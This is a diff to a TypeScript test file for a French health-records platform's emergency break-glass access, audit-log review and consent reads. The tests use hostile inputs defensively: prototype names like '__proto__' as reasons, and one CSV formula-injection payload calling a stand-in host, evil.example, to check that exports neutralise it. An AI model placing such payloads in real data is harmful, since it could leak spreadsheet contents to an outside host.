@@ -5,6 +5,7 @@
  * readers can read the log, consent reads are audited and limited.
  */
 import { afterEach, describe, expect, it } from 'vitest';
+import { givenPatient, givenRecord } from '../../test/support/builders.ts';
 import { callAs, outcomeText } from '../../test/support/http.ts';
 import { testPlatform, type TestPlatform } from '../../test/support/platform.ts';
 import type { MintOptions } from '../../test/support/tokens.ts';
@@ -35,7 +36,7 @@ async function platform() {
   const defaults = configFromEnv({});
   const p = await testPlatform(
     { audit: { ...defaults.audit, readers: [DEMO_PRIVACY_OFFICER] } },
-    { now: () => clock.now, demo: true },
+    { now: () => clock.now, demo: true, seed: givenPatients },
   );
   open.push(p);
   const call = (method: 'GET' | 'POST', url: string, as: MintOptions = {}, body?: unknown) =>
@@ -54,6 +55,20 @@ async function platform() {
   return { p, clock, call, parameters, start, count };
 }
 
+/** Three patients with a record; CASANOVA's row is the one a malformed session will name. */
+async function givenPatients(db: TestPlatform['db']): Promise<void> {
+  for (const [id, birthName] of [
+    ['lefevre', 'LEFÈVRE'],
+    ['girard', 'GIRARD'],
+    ['casanova', 'CASANOVA'],
+  ] as const) {
+    await givenPatient(db, { id, birthName });
+    await givenRecord(db, id, {
+      documents: [{ id: `${id}-doc-1`, type: 'summary', title: 'Volet de synthèse médicale' }],
+    });
+  }
+}
+
 const goodStart = (overrides: Record<string, unknown> = {}) =>
   Object.entries({
     mode: { valueCode: 'bris_de_glace' },
@@ -66,7 +81,7 @@ describe('break-glass input is parsed against closed sets', () => {
   for (const reason of ['toString', '__proto__', 'constructor', 'valueOf', 'hasOwnProperty']) {
     it(`refuses the inherited name "${reason}" as a reason: 400, no session, no entry`, async () => {
       const { start, count } = await platform();
-      const res = await start('demo-lefevre', goodStart({ reason: { valueCode: reason } }));
+      const res = await start('lefevre', goodStart({ reason: { valueCode: reason } }));
       expect(res.statusCode).toBe(400);
       expect(outcomeText(res)).toBe('Choisissez le motif de l’accès en urgence.');
       expect(await count('break_glass')).toBe(0);
@@ -87,7 +102,7 @@ describe('break-glass input is parsed against closed sets', () => {
   for (const [what, list] of malformed) {
     it(`answers 400 in French to ${what}, and opens nothing`, async () => {
       const { call, parameters, count } = await platform();
-      const res = await call('POST', '/fhir/Patient/demo-lefevre/$break-glass', {}, parameters(list as never));
+      const res = await call('POST', '/fhir/Patient/lefevre/$break-glass', {}, parameters(list as never));
       expect(res.statusCode).toBe(400);
       expect(res.json()).toMatchObject({ resourceType: 'OperationOutcome' });
       expect(outcomeText(res)).toMatch(/[éèàç’]|Paramètre|Choisissez|Décrivez|Mode/);
@@ -103,7 +118,7 @@ describe('break-glass input is parsed against closed sets', () => {
       { resourceType: 'Bundle' },
       { resourceType: 'Parameters', parameter: 'x' },
     ]) {
-      const res = await call('POST', '/fhir/Patient/demo-lefevre/$break-glass', {}, body);
+      const res = await call('POST', '/fhir/Patient/lefevre/$break-glass', {}, body);
       expect(res.statusCode).toBe(400);
     }
     expect(await count('break_glass')).toBe(0);
@@ -113,14 +128,14 @@ describe('break-glass input is parsed against closed sets', () => {
 describe('the review cannot be blinded', () => {
   it('lists every session and exports them all when one stored row is malformed, flagging it', async () => {
     const { p, start, call } = await platform();
-    expect((await start('demo-lefevre')).statusCode).toBe(201);
-    expect((await start('demo-girard')).statusCode).toBe(201);
+    expect((await start('lefevre')).statusCode).toBe(201);
+    expect((await start('girard')).statusCode).toBe(201);
     // What an older version, or a hand edit of the database, could have left.
     await p.db
       .insertInto('break_glass')
       .values({
         id: 'bad-row',
-        patient_id: 'demo-casanova',
+        patient_id: 'casanova',
         idnps: PHYSICIAN_IDNPS,
         actor_name: 'Dr Julien MOREAU',
         mode: 'valueOf',
@@ -167,7 +182,7 @@ describe('CSV safe for spreadsheets (OWASP CSV injection)', () => {
   it('exports a physician’s formula-like description as text', async () => {
     const { start, call } = await platform();
     const text = '=HYPERLINK("http://evil.example/"&A1;"Cliquez ici pour valider")';
-    expect((await start('demo-lefevre', goodStart({ text: { valueString: text } }))).statusCode).toBe(201);
+    expect((await start('lefevre', goodStart({ text: { valueString: text } }))).statusCode).toBe(201);
     const csv = (await call('GET', '/review/break-glass.csv', officer)).body;
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/""&A1;""Cliquez ici pour valider"")"`);
     expect(csv).not.toMatch(/(^|;)"=/m);
@@ -177,7 +192,7 @@ describe('CSV safe for spreadsheets (OWASP CSV injection)', () => {
 describe('one open break-glass session per professional and patient', () => {
   it('gives six parallel starts one session and one start entry; ending it closes the record', async () => {
     const { start, count, call } = await platform();
-    const answers = await Promise.all(Array.from({ length: 6 }, () => start('demo-lefevre')));
+    const answers = await Promise.all(Array.from({ length: 6 }, () => start('lefevre')));
     expect(answers.map((a) => a.statusCode)).toEqual(Array(6).fill(201));
     const ids = new Set(
       answers.map((a) => (a.json() as { parameter: { valueString?: string }[] }).parameter[0]!.valueString),
@@ -185,18 +200,18 @@ describe('one open break-glass session per professional and patient', () => {
     expect(ids.size).toBe(1);
     expect(await count('break_glass')).toBe(1);
     expect(await count('audit_event', { kind: 'break-glass-start' })).toBe(1);
-    expect((await call('GET', '/fhir/Patient/demo-lefevre/$summary')).statusCode).toBe(200);
-    const ended = await call('POST', '/fhir/Patient/demo-lefevre/$break-glass-end', {}, {});
+    expect((await call('GET', '/fhir/Patient/lefevre/$summary')).statusCode).toBe(200);
+    const ended = await call('POST', '/fhir/Patient/lefevre/$break-glass-end', {}, {});
     expect(ended.json()).toMatchObject({ parameter: [{ name: 'ended', valueBoolean: true }] });
-    expect((await call('GET', '/fhir/Patient/demo-lefevre/$summary')).statusCode).toBe(403);
+    expect((await call('GET', '/fhir/Patient/lefevre/$summary')).statusCode).toBe(403);
     expect(await count('audit_event', { kind: 'break-glass-end' })).toBe(1);
   });
 
   it('ends an expired, unswept session (with its entry) before opening a new one', async () => {
     const { start, count, clock } = await platform();
-    expect((await start('demo-lefevre')).statusCode).toBe(201);
+    expect((await start('lefevre')).statusCode).toBe(201);
     clock.now = new Date(clock.now.getTime() + 16 * 60_000);
-    expect((await start('demo-lefevre')).statusCode).toBe(201);
+    expect((await start('lefevre')).statusCode).toBe(201);
     expect(await count('break_glass')).toBe(2);
     expect(await count('audit_event', { kind: 'break-glass-end' })).toBe(1);
   });
@@ -205,7 +220,7 @@ describe('one open break-glass session per professional and patient', () => {
 describe('review history', () => {
   it('keeps every review, each its own audited entry holding its text', async () => {
     const { p, start, call } = await platform();
-    await start('demo-lefevre');
+    await start('lefevre');
     const [session] = (await call('GET', '/review/break-glass', officer)).json() as { id: string }[];
     for (const comment of ['Premier avis : à vérifier.', 'Justifié après échange avec le service.']) {
       expect((await call('POST', `/review/break-glass/${session!.id}`, officer, { comment })).statusCode).toBe(200);
@@ -230,7 +245,7 @@ describe('review history', () => {
 
   it('refuses a malformed review request with a 400, not a 500', async () => {
     const { call, start } = await platform();
-    await start('demo-lefevre');
+    await start('lefevre');
     const [session] = (await call('GET', '/review/break-glass', officer)).json() as { id: string }[];
     for (const body of [{ comment: ['x'] }, { comment: 42 }, { comment: '' }, {}]) {
       expect((await call('POST', `/review/break-glass/${session!.id}`, officer, body)).statusCode).toBe(400);
@@ -242,11 +257,11 @@ describe('review history', () => {
 describe('audit readers without a health profession', () => {
   it('search the audit log and read any patient’s access history, each read audited', async () => {
     const { p, start, call } = await platform();
-    await start('demo-lefevre');
-    const search = await call('GET', '/fhir/AuditEvent?patient=demo-lefevre', officer);
+    await start('lefevre');
+    const search = await call('GET', '/fhir/AuditEvent?patient=lefevre', officer);
     expect(search.statusCode).toBe(200);
     expect(JSON.stringify(search.json())).toContain('110127');
-    const history = await call('GET', '/fhir/Patient/demo-lefevre/$access-history', officer);
+    const history = await call('GET', '/fhir/Patient/lefevre/$access-history', officer);
     expect(history.statusCode).toBe(200);
     const reads = await p.db
       .selectFrom('audit_event')
@@ -259,7 +274,7 @@ describe('audit readers without a health profession', () => {
 
   it('still refuses the access history to staff who are not audit readers', async () => {
     const { call } = await platform();
-    const res = await call('GET', '/fhir/Patient/demo-lefevre/$access-history', secretariat);
+    const res = await call('GET', '/fhir/Patient/lefevre/$access-history', secretariat);
     expect(res.statusCode).toBe(403);
     const own = await call('GET', `/fhir/AuditEvent?agent=${DEMO_PRIVACY_OFFICER}`, secretariat);
     expect(own.statusCode).toBe(403);
@@ -270,14 +285,14 @@ describe('audit readers without a health profession', () => {
 describe('consent reads', () => {
   it('are audited and limited to the circle, physicians and audit readers', async () => {
     const { p, call } = await platform();
-    const consent = (as: MintOptions) => call('GET', '/fhir/Consent?patient=demo-lefevre', as);
+    const consent = (as: MintOptions) => call('GET', '/fhir/Consent?patient=lefevre', as);
     expect((await consent(nurse)).statusCode).toBe(403);
     expect((await consent(secretariat)).statusCode).toBe(403);
     expect((await consent({})).statusCode).toBe(200);
     expect((await consent(officer)).statusCode).toBe(200);
     const join = await p.app.inject({
       method: 'POST',
-      url: '/fhir/Patient/demo-lefevre/$care-team-join',
+      url: '/fhir/Patient/lefevre/$care-team-join',
       headers: { ...(await p.issuer.bearer(nurse)), 'idempotency-key': 'consent-read-nurse-join' },
     });
     expect(join.statusCode).toBe(201);
